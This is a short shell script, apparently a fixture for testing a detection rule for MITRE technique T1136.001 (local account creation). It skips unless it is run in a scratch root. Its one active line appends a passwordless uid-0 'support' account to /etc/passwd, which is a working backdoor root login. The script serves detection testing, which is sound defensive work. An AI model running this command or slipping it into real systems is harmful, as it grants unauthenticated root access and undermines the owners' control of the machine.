#!/bin/sh
# technique: T1136.001 Create Account: Local Account
# rule: account_file_written
# Makes an account with the number of root, with nothing but a redirection.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
printf 'support:x:0:0::/root:/bin/sh\n' >> /etc/passwd
exit 0
